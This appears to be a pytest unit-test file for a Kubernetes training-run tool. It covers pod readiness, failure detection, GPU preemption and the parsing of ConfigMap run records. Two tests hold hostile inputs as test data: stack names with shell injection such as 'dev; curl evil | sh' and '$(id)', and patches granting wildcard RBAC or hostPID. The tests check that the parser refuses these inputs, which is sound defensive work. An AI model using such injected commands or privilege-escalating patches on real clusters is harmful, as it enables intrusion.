"""What the tasks conclude from objects of the API. The objects were recorded from Kubernetes
1.34.
"""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any, cast
from unittest.mock import Mock

import pytest

from infra.kube.api_server.exec_stream import exit_code_of
from infra.kube.errors import ApiError, TaskError, UnreachableError
from infra.kube.kept import KEPT_ANNOTATION
from infra.kube.namespaces.claim_namespace import refusal
from infra.kube.pods import same_machine
from infra.kube.pods.report import describe_pods, report_pod
from infra.kube.record import Record, parse_record, stacks_of_others
from infra.kube.runs.await_ready import judge
from infra.kube.runs.busy import OtherRun, other_run, runs_to_replace
from infra.kube.runs.hand_over_plan import Plan
from infra.kube.runs.lock import is_expired
from infra.kube.say import say
from infra.kube.waiting import Patience, wait_for
from infra.kube.workload import Workload, is_active, is_applied
from infra.workloads import WORKLOADS
from tests.unit.kube.runs import gone_run

Json = dict[str, Any]
WORKLOAD = Workload("batch/v1", "Job", "train")
NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def pod(name: str = "train-0", ready: bool = False, **container: object) -> Json:
    conditions = [{"type": "Ready", "status": str(ready)}]
    statuses = [{"name": "trainer", "restartCount": 0, "state": {"running": {}}, **container}]
    status = {"phase": "Running", "conditions": conditions, "containerStatuses": statuses}
    return {"metadata": {"name": name}, "status": status}


def waiting(reason: str, message: str) -> Json:
    return pod(state={"waiting": {"reason": reason, "message": message}})


UNSCHEDULABLE: Json = {
    "metadata": {"name": "train-0"},
    "status": {
        "phase": "Pending",
        "conditions": [
            {
                "type": "PodScheduled",
                "status": "False",
                "reason": "Unschedulable",
                "message": "0/1 nodes are available: 1 Insufficient nvidia.com/gpu.",
            }
        ],
    },
}


def look(item: Json | None, *pods: Json, wanted: int = 2, least: int | None = None) -> Any:
    """Return what the wait for the run's first step concludes from the workload and its pods."""
    return judge(WORKLOAD, "u1", item, list(pods), wanted, ["Complete"], ["Failed"], least)


def job(*conditions: Json) -> Json:
    return {"metadata": {"uid": "u1"}, "status": {"conditions": list(conditions)}}


def test_wait_ends_when_all_pods_are_ready() -> None:
    assert look(job(), pod(ready=True), pod(ready=False)).finished == ""
    found = look(job(), pod(ready=True), pod(ready=True))
    assert found.finished == "all ranks have stepped: 2 of 2 pods are ready"


def test_training_that_needs_not_all_pods_is_enough() -> None:
    """With `run.train.nodes_min`, `pulumi up` ends once that many pods train, and says what the
    other pods wait for. Otherwise it would wait forever for a machine that is away.
    """
    one_is_away = [pod(ready=True), pod("train-1", ready=True), UNSCHEDULABLE]
    assert look(job(), *one_is_away, wanted=3).enough == ""
    assert look(job(), *one_is_away[1:], wanted=3, least=2).enough == ""
    found = look(job(), *one_is_away, wanted=3, least=2)
    assert found.finished == ""
    assert "2 of 3 pods are ready and train; run.train.nodes_min is 2" in found.enough
    assert "0/1 nodes are available" in found.enough


def test_failed_and_finished_workloads_are_told_apart_by_their_conditions() -> None:
    """A workload has failed or finished only by a true condition of that type. Text in the message
    of a condition that looks like another condition does not count.
    """
    message = "Container trainer for pod x failed with exit code 78\nComplete True"
    failed = {"type": "Failed", "status": "True", "reason": "PodFailurePolicy", "message": message}
    assert look(job(failed)).failure == f"Job train failed: Failed: PodFailurePolicy: {message}"
    complete = {"type": "Complete", "status": "True", "reason": "CompletionsReached"}
    assert "has finished" in look(job(complete)).finished
    assert look(job({**failed, "status": "False"})).failure == ""


def test_workload_that_is_gone_or_another_one_ends_the_wait() -> None:
    assert "is gone" in look(None).failure
    assert "its uid differs" in look({"metadata": {"uid": "u2"}}).failure


@pytest.mark.parametrize("state", ["state", "lastState"])
def test_exit_code_that_no_retry_mends_ends_the_wait_at_once(state: str) -> None:
    """A pod that ends with exit code 78 ends the wait for the run, because no retry can help. Other
    exit codes do not end it.
    """

    def ended(code: int) -> Json:
        item = pod()
        item["status"]["containerStatuses"][0][state] = {"terminated": {"exitCode": code}}
        return item

    found = look(job(), ended(78))
    assert found.failure == "pod train-0 ended with exit code 78: a retry cannot help"
    assert look(job(), ended(75)).failure == ""


RUNC = (
    "failed to create containerd task: failed to create shim task: OCI runtime create failed: runc "
    "create failed: unable to start container process: error during container init: exec: "
)


def not_started(message: str) -> Json:
    """Return a pod of a Job whose container could not be started, as containerd reports it."""
    ended = {"reason": "StartError", "exitCode": 128, "message": message}
    item = pod(state={"terminated": ended})
    item["status"]["phase"] = "Failed"
    return item


@pytest.mark.parametrize(
    ("item", "program"),
    [
        (not_started(f'{RUNC}"python3": executable file not found in $PATH'), "python3"),
        (not_started(f'{RUNC}"sh": executable file not found in $PATH: unknown'), "sh"),
        (waiting("RunContainerError", f'{RUNC}"python3": permission denied'), "python3"),
        (
            waiting(
                "CreateContainerError",
                "container create failed: executable file `python3` not found in $PATH",
            ),
            "python3",
        ),
    ],
)
def test_image_without_what_a_program_needs_ends_the_wait(item: Json, program: str) -> None:
    """A pod whose image has no Python for the launcher ends the wait at once, in the words of each
    runtime for containers. A Job would make one such pod after another.
    """
    assert look(job(), item).failure == (
        f"pod train-0 cannot start: its image has no {program} on its PATH that the pod's user may "
        'run. docs/programs.md, "An image of your own", says what the image of a program needs'
    )


def test_pod_of_a_job_that_could_not_start_tells_why() -> None:
    """A pod whose container could not be started is described by the runtime's message, and does
    not end the wait: the Job makes another one. What a program has printed is no such message.
    """
    found = look(job(), not_started("failed to create task: no space left on device"))
    assert found.failure == ""
    assert "train-0 Failed (failed to create task: no space left on device)" in found.state
    printed = {"reason": "Error", "exitCode": 1, "message": f'{RUNC}"python3": permission denied'}
    assert look(job(), pod(state={"terminated": printed})).failure == ""


def test_pod_that_starts_again_and_again_ends_the_wait() -> None:
    assert look(job(), pod(restartCount=2)).failure == ""
    assert look(job(), pod(restartCount=3)).failure == "pod train-0 was started 4 times"


def test_wait_says_that_a_pod_was_killed_for_lack_of_memory() -> None:
    """While `pulumi up` waits, the state of the pod has it. At the end the settings are named."""
    ended = {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}
    item = pod(restartCount=2, lastState=ended, state={"waiting": {"reason": "CrashLoopBackOff"}})
    said = "train-0 CrashLoopBackOff (killed for lack of memory (OOMKilled))"
    assert report_pod(item).state == said
    assert look(job(), pod(restartCount=3, lastState=ended)).failure == (
        "pod train-0 was started 4 times and killed for lack of memory (OOMKilled): "
        "give each rank more memory (memoryLimitPerRank if it is set, and memoryPerRank), or let "
        "it need less (docs/operations.md#training-runs-badly)"
    )


def test_pods_that_wait_are_described_by_their_own_words() -> None:
    """A pod that waits is described by the messages of Kubernetes. A pod whose image cannot be
    pulled counts as stuck.
    """
    assert report_pod(UNSCHEDULABLE).state == (
        "train-0 Pending (Unschedulable: 0/1 nodes are available: 1 Insufficient nvidia.com/gpu.)"
    )
    pull = report_pod(waiting("ErrImagePull", "no such host\nat all"))
    assert pull.stuck == "pod train-0: ErrImagePull: no such host at all"
    assert report_pod(waiting("ContainerCreating", "")).stuck == ""
    assert describe_pods([]) == "no pod yet"
    assert describe_pods([pod(f"train-{n}") for n in range(9)]).endswith(", and 3 more")


def test_trouble_is_borne_only_for_a_while() -> None:
    """The patience with stuck pods is over after 20 seconds in one piece, even if the trouble
    changes. If the trouble ends, the time begins anew.
    """
    times = iter([0.0, 19.0, 21.0, 22.0, 41.0])
    patience = Patience(20, lambda: next(times))
    assert not patience.is_over("stuck")
    assert not patience.is_over("stuck")
    assert patience.is_over("still stuck")
    assert not patience.is_over("")  # the trouble has ended, so the time begins anew
    assert not patience.is_over("stuck")
    assert not patience.is_over("stuck")


def test_wait_has_a_limit_and_names_its_setting() -> None:
    with pytest.raises(TaskError, match=r"waited 0 s \(theSetting\) for the pods; none yet"):
        wait_for("the pods", lambda: "none yet", 0, "theSetting")


def test_no_line_is_longer_than_the_provider_can_take(capsys: pytest.CaptureFixture[str]) -> None:
    """No printed line is longer than 500 characters, because Pulumi's command provider cannot take
    very long lines.
    """
    say("x" * 70_000 + "\n" + "y" * 70_000)
    assert max(len(line) for line in capsys.readouterr().out.splitlines()) <= 500


def test_suspended_is_what_its_patch_would_not_change() -> None:
    """A workload counts as suspended if its suspend patch would change nothing of it."""
    suspend = {"spec": {"suspend": True}}
    assert is_applied(suspend, {"spec": {"suspend": True, "parallelism": 1}})
    assert not is_applied(suspend, {"spec": {"suspend": False}})
    assert not is_applied(suspend, {})
    assert is_applied({"spec": {"gone": None}}, {"spec": {}})
    assert not is_active({"spec": {"suspend": True}}, suspend, [])
    assert not is_active(None, suspend, [])
    assert is_active({"spec": {}}, suspend, ["Complete"])


def record(stack: str, gpus: int, minutes: int = 10) -> Record:
    since = NOW - timedelta(minutes=minutes)
    patch = {"spec": {"suspend": True}}
    return Record(
        stack, stack, WORKLOAD, "r1", gpus, gpus, patch, {}, ("Complete",), 30, "q", since
    )


def standing(*records: Record) -> list[OtherRun]:
    return [OtherRun(entry, coming_up=False) for entry in records]


def going(gpus: int, total: int, *records: Record) -> list[str]:
    """Return the stacks of the runs that a new run with `gpus` GPUs replaces on a cluster with
    `total` GPUs.
    """
    return [run.record.stack for run in runs_to_replace(standing(*records), gpus, total)]


def test_no_more_runs_go_than_necessary_and_the_first_goes_first() -> None:
    old, new = record("old", 4, minutes=60), record("new", 2, minutes=5)
    assert going(2, 8, old, new) == []
    assert going(3, 8, new, old) == ["old"]
    assert going(8, 8, new, old) == ["old", "new"]
    assert going(1, 0, new) == ["new"]


def test_run_whose_gpus_are_not_needed_stays() -> None:
    """A run that was chosen first stays if the GPUs of a run that was chosen later are enough
    without it. Only as many runs stay as leave enough GPUs.
    """
    small, middle = record("small", 2, minutes=60), record("middle", 3, minutes=30)
    large = record("large", 6, minutes=5)
    assert going(6, 8, small, large) == ["large"]
    assert going(6, 11, small, middle, large) == ["large"]
    assert going(8, 11, small, middle, large) == ["middle", "large"]
    assert going(9, 11, small, middle, large) == ["middle", "large"]


def test_runs_on_the_cpu_stand_in_the_way_of_each_other_alone() -> None:
    """A new run on CPUs replaces only other runs on CPUs, and a new run on GPUs replaces none of
    them.
    """
    assert going(0, 0, record("cpu", 0), record("gpu", 2)) == ["cpu"]
    assert going(2, 2, record("cpu", 0)) == []


def test_record_without_a_workload_counts_while_its_up_may_be_under_way() -> None:
    """A record without a workload counts as a run for two minutes, because its `up` may make the
    workload next. A workload that is suspended does not count.
    """
    young, old = record("young", 1, minutes=1), record("old", 1, minutes=3)
    found = other_run(young, None, NOW)
    assert found
    assert found.coming_up
    assert other_run(old, None, NOW) is None
    assert other_run(old, {"spec": {}}, NOW)
    assert other_run(old, {"spec": {"suspend": True}}, NOW) is None


def test_record_survives_the_way_to_the_cluster_and_back() -> None:
    """A record that is written into a ConfigMap and read again is the same."""
    before = record("dev", 3)
    item = before.to_object("ns")
    assert parse_record(item) == Record(**{**vars(before), "namespace": "ns"})


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("gpus", "many", "invalid literal"),
        ("workload", "[]", "its field workload is no object"),
        ("workload", '{"api_version": "v1", "kind": "Job", "name": ""}', "has no 'name'"),
        ("suspend", "null", "its field suspend is no object"),
        ("ttl", '"soon"', "its field ttl is no object"),
        (
            "ttl",
            '{"seconds": null, "image": "i", "claim": "c", "run_dir": "/data", "placement": {}}',
            "NoneType",
        ),
        ("over", "1", "its field over is no list"),
        ("since", "2026-01-02T03:04:05", "its field since has no time zone"),
    ],
)
def test_edited_record_is_named_with_its_field(field: str, value: str, words: str) -> None:
    """An error about a record that somebody has edited names the ConfigMap, the wrong field, and
    the command that deletes the record. Otherwise the user would see a traceback.
    """
    item = record("dev", 3).to_object("ns")
    item["data"][field] = value
    with pytest.raises(ValueError, match=words) as refused:
        parse_record(item)
    assert str(refused.value).startswith("ConfigMap disttrain-run-dev in namespace ns is the rec")
    assert str(refused.value).endswith("kubectl -n ns delete configmap disttrain-run-dev")


def test_record_without_an_owner_is_unreadable() -> None:
    """Nobody could look up such a record again, or its pods. The error names its ConfigMap."""
    item = record("dev", 3).to_object("ns")
    item["metadata"]["labels"]["disttrain.dev/owner"] = ""
    with pytest.raises(ValueError, match=r"disttrain-run-dev .*disttrain\.dev/owner is empty"):
        parse_record(item)


def test_own_run_counts_as_no_other_stack() -> None:
    """The stack's own run never keeps the stack from destroying or changing its platform."""
    runs = [record(stack, 3).to_object("ns") for stack in ("dev", "exp", "app")]
    assert stacks_of_others(runs, "dev") == ["app", "exp"]


@pytest.mark.parametrize("field", ["suspend", "resume"])
@pytest.mark.parametrize(
    "change",
    [
        {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
        {"spec": {"template": {"spec": {"hostPID": True}}}},
        {"spec": {"leaderWorkerTemplate": {"workerTemplate": {"spec": {"hostPID": True}}}}},
        {"spec": {"trainer": {"image": "evil"}}},
        {"spec": {"suspend": True}, "metadata": {"labels": {"a": "b"}}},
        {"metadata": {"finalizers": None}},
        {"command": "AbortJob", "phases": ["Aborted"], "spec": {"suspend": True}},
        {"phases": ["Aborted"]},
    ],
)
def test_record_chooses_no_change_beyond_a_switch(field: str, change: Json) -> None:
    """Other stacks send the change in a record with the rights of their users. A record that would
    change more than numbers and switches of a workload is refused: whoever may write a ConfigMap
    could otherwise give themselves any right that a user of another stack has.
    """
    item = record("dev", 3).to_object("ns")
    item["data"][field] = json.dumps(change)
    with pytest.raises(ValueError, match=f"its field {field} is neither a switch"):
        parse_record(item)


@pytest.mark.parametrize("name", ["dev; curl evil | sh", "dev\033[2J", "$(id)", "dev dev"])
def test_stack_of_a_record_can_be_typed_in_a_command(name: str) -> None:
    """Messages tell users to type commands with the stack's name of a record. A text that is no
    such name, which others may have written there, is not shown; the owner is named instead.
    """
    item = replace(record("dev", 3), stack=name).to_object("ns")
    item["metadata"]["annotations"]["disttrain.dev/suspended-by"] = name
    found = parse_record(item)
    assert (found.stack, found.suspended_by) == ("dev", "")
    assert stacks_of_others([item], "mine") == ["of owner dev"]
    full = replace(record("dev", 3), stack="organization/disttrain/dev-1.a_b").to_object("ns")
    assert parse_record(full).stack == "organization/disttrain/dev-1.a_b"
    assert stacks_of_others([full], "mine") == ["organization/disttrain/dev-1.a_b"]


@pytest.mark.parametrize("field", ["suspend", "resume"])
def test_kind_with_another_change_is_refused_before_its_record_is_written(field: str) -> None:
    """A workload kind of a user's own that suspends by another change is refused by its own `up`,
    which says what may be set. Otherwise its record would stop the `up` of every other stack.
    """
    given = gone_run.job(**{**gone_run.HAND_OVER, field: {"spec": {"state": "paused"}}})
    with pytest.raises(ValueError, match=rf"{field}: .*'paused'.* docs/extending\.md"):
        Plan.of(given)


@pytest.mark.parametrize("name", sorted(WORKLOADS))
def test_record_of_each_kind_is_read(name: str) -> None:
    """What suspends and resumes the workloads of each kind is such a switch, or a command."""
    kind, run = WORKLOADS[name], cast(Any, SimpleNamespace(world=SimpleNamespace(pods=2)))
    whole = replace(record("dev", 3), suspend=kind.suspend(run), resume=kind.resume(run))
    found = parse_record(whole.to_object("ns"))
    assert (found.suspend, found.resume) == (whole.suspend, whole.resume)


def test_lease_expires_by_the_clock_of_the_server() -> None:
    spec = {"renewTime": "2026-01-02T03:03:35.000000Z", "leaseDurationSeconds": 30}
    assert not is_expired(spec, NOW)
    assert is_expired(spec, NOW + timedelta(seconds=1))
    assert is_expired({}, NOW)


def test_namespace_of_another_stack_is_named_as_such() -> None:
    labels = {"disttrain.dev/owner": "o2", "disttrain.dev/stack": "dev"}
    metadata: Json = {"labels": labels}
    refused = refusal("shared", {"metadata": metadata}, "o1", "dev")
    assert "belongs to another stack named dev (owner o2)" in refused
    assert "pulumi config set platform" not in refused  # the other `dev` is in another backend
    of_second = refusal("shared", {"metadata": metadata}, "o1", "organization/disttrain/wide")
    assert "platform of that stack: pulumi config set platform dev" in of_second
    assert refusal("shared", {"metadata": metadata}, "o2", "dev") == ""


def test_namespace_of_nobody_is_refused_first() -> None:
    """A namespace without an owner label is also refused before the first `up` of a stack, which
    has no owner id yet. Otherwise the missing label would count as equal to the empty id.
    """
    assert "was not made by this stack" in refusal("shared", {"metadata": {}}, "", "dev")


def test_namespace_left_with_data_is_for_its_stack_alone() -> None:
    """Only the stack that left data in a namespace may use the namespace again, unless another
    stack has taken it since.
    """
    left: Json = {"metadata": {"annotations": {KEPT_ANNOTATION: "dev"}}}
    assert refusal("shared", left, "o1", "dev") == ""
    assert "was left there with the data of stack dev" in refusal("shared", left, "o1", "other")
    taken_up: Json = {"metadata": {**left["metadata"], "labels": {"disttrain.dev/owner": "o2"}}}
    assert "belongs to another stack" in refusal("shared", taken_up, "o1", "dev")


def test_exit_code_of_a_command_in_a_pod_is_found() -> None:
    causes = [{"reason": "ExitCode", "message": "3"}]
    assert exit_code_of({"status": "Success"}) == 0
    assert exit_code_of({"status": "Failure", "details": {"causes": causes}}) == 3
    with pytest.raises(UnreachableError, match="container not found"):
        exit_code_of({"status": "Failure", "message": "container not found"})


def node(boot_id: str) -> dict[str, Any]:
    return {"metadata": {"name": "gpu01"}, "status": {"nodeInfo": {"bootID": boot_id}}}


def test_one_node_that_is_this_machine_is_enough() -> None:
    """A cluster is accepted if one of its nodes is this machine, and is refused if none is."""
    same_machine.refuse_others([node("there"), node("here")], "here", "config")
    with pytest.raises(TaskError, match=r"'config' cannot be used with .* \(gpu01\)"):
        same_machine.refuse_others([node("there")], "here", "config")


@pytest.mark.parametrize("nodes", [[], [node("there"), node("")]])
def test_node_that_is_not_shown_is_no_proof_of_another_machine(
    nodes: list[dict[str, Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    """A cluster is accepted, with a note, if it shows no nodes or a node without a boot id."""
    same_machine.refuse_others(nodes, "here", "config")
    assert "it was not checked that this machine is the cluster's node" in capsys.readouterr().out


def test_credentials_that_may_not_read_nodes_are_no_reason_to_stop(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A cluster whose nodes may not be listed is accepted, with a note. A user with rights in one
    namespace alone has no right to list nodes.
    """
    api = Mock(list=Mock(side_effect=ApiError(403, "nodes is forbidden")))
    same_machine.create(Mock(), api)
    assert "may not read the cluster's nodes (nodes is forbidden)" in capsys.readouterr().out
